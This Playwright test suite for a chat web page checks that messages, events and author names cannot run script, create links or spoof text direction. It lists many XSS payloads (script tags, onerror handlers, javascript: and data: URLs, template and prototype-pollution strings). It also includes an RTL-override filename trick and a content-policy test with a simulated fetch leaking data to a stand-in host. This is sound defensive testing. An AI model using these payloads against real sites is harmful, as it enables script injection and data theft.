"""Whatever somebody writes stays text."""

from __future__ import annotations

from typing import Any

from playwright.sync_api import expect

from .conftest import NewTab
from .serving import Serving

ATTACKS = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "\"><svg onload='window.pwned = 1'>",
    "javascript:window.pwned=1",
    "data:text/html,<script>parent.pwned=1</script>",
    "${window.pwned = 1}",
    "{{constructor.constructor('window.pwned = 1')()}}",
    "`<b onclick='window.pwned = 1'>code</b>`",
    "```html\n<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>\n```",
    'https://example.org/" onmouseover="window.pwned=1',
    "https://example.org/'><script>window.pwned=1</script>",
    "__proto__",
    "constructor",
]


def test_scripts_in_every_field_are_inert(open_tab: NewTab, server: Serving, room: str) -> None:
    tall = {"width": 1280, "height": 3000}  # all of it is drawn
    tab = open_tab("<img src=x onerror='window.pwned = 1'>", viewport=tall)
    for n, attack in enumerate(ATTACKS):
        server.send(room, attack, attack[:100].replace("\n", " "), id=f"{room}{n}{attack[:60]}".replace("\n", " "))
        server.post(
            "/api/publish",
            {
                "topic": f"chat/{room}",
                "event": attack[:60].replace("\n", " "),
                "data": {"text": attack, "id": {"toString": attack}},
            },
        )
        server.post(
            "/api/publish",
            {
                "topic": f"chat/{room}",
                "event": "typing",
                "data": {"typing": attack},
                "userId": attack[:100].replace("\n", " "),
            },
        )
    shown = tab.page.locator(".row .text")
    expect(shown).to_have_count(2 * len(ATTACKS))
    for link in tab.page.locator(".row a").all():
        assert str(link.get_attribute("href")).startswith("https://example.org/")
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    allowed = "a, code, pre, div, span, bdi, time, button, svg, path"
    assert tab.run(f"() => document.querySelectorAll('.rows *:not({allowed})').length") == 0
    assert tab.run("() => document.querySelectorAll('.text *[onclick], .text *[onerror], .text *[style]').length") == 0
    tab.say(ATTACKS[1])
    expect(shown).to_have_count(2 * len(ATTACKS) + 1)
    expect(tab.page.locator(".row.pending")).to_have_count(0)
    tab.page.locator(".me").click()
    expect(tab.page.get_by_role("dialog")).to_be_visible()
    assert tab.run("() => window.pwned") is None


#: Data that no honest client sends. The page shows what has a text, and survives the rest.
ODD: list[Any] = [
    None,
    7,
    "text",
    [],
    {},
    {"text": None},
    {"text": 7},
    {"text": {"a": 1}},
    {"text": ["x"]},
    {"text": ""},
    {"users": 3},
]


def test_events_of_any_shape_do_no_harm(open_tab: NewTab, server: Serving, room: str) -> None:
    tab = open_tab("ada")
    for event in ("chat:message", "typing", "presence-like", "anything"):
        for data in ODD:
            server.post("/api/publish", {"topic": f"chat/{room}", "event": event, "data": data})
    # Without a rule against it, anybody may publish an event that only looks like the server's.
    tab.run(
        """async ([room, odd]) => {
            const { client } = await import('/page/model/connection.js')
            for (const event of ['presence:join', 'presence:leave', 'presence:sync', 'presence:update']) {
                for (const data of odd) await client.channel(`chat/${room}`).publish(event, data).catch(() => {})
            }
        }""",
        [room, ODD],
    )
    server.send(room, "still alive", "grace")
    tab.sees("still alive")
    expect(tab.page.locator(".people li .name")).to_have_text(["ada"])


def test_only_web_links_become_links(open_tab: NewTab, server: Serving, room: str) -> None:
    server.send(
        room,
        "see https://example.org/a_(b)?c=d#e. or (http://localhost:3000/x), not javascript:alert(1) nor ftp://a.example"
        " nor https://bank.example@evil.example/ nor `https://in.code.example`",
        "grace",
    )
    tab = open_tab("ada")
    links = tab.page.locator(".row a")
    expect(links).to_have_text(["https://example.org/a_(b)?c=d#e", "http://localhost:3000/x"])


def test_the_policy_stops_what_would_get_through(open_tab: NewTab) -> None:
    tab = open_tab("ada")
    blocked = tab.run(
        """async () => {
            const seen = []
            addEventListener('securitypolicyviolation', event => seen.push(event.effectiveDirective))
            const tries = {
                inline: () => document.body.append(Object.assign(document.createElement('script'), { text: 'window.pwned = 1' })),
                markup: () => { document.createElement('div').innerHTML = '<img src=x onerror="window.pwned = 1">' },
                remote: () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'http://127.0.0.2/x.css' })),
                frame: () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://127.0.0.2/' })),
                leak: () => fetch('http://127.0.0.2/?stolen').catch(() => {}),
            }
            const threw = {}
            for (const [name, attempt] of Object.entries(tries)) {
                try { await attempt(); threw[name] = false } catch { threw[name] = true }
            }
            for (let i = 0; i < 100 && new Set(seen).size < 5; i++) await new Promise(requestAnimationFrame)
            return { threw, seen: [...new Set(seen)].sort(), pwned: window.pwned ?? null }
        }"""
    )
    assert blocked["pwned"] is None
    assert blocked["threw"]["markup"] is True
    assert {"connect-src", "frame-src", "require-trusted-types-for", "style-src-elem"} <= set(blocked["seen"])
    tab.problems.clear()  # each attempt is on the console


def test_right_to_left_and_invisible_characters_stay_in_their_place(
    open_tab: NewTab, server: Serving, room: str
) -> None:
    names = ["\u202egnp.exe\u2066", "שלום"]
    for name in names:
        server.send(room, "hello", name)
    tab = open_tab("ada")
    authors = tab.page.locator(".row bdi.author")
    expect(authors).to_have_text(names)
    for author in authors.all():
        assert author.evaluate("node => getComputedStyle(node).unicodeBidi") == "isolate"
    assert tab.page.locator(".row .text").first.get_attribute("dir") == "auto"
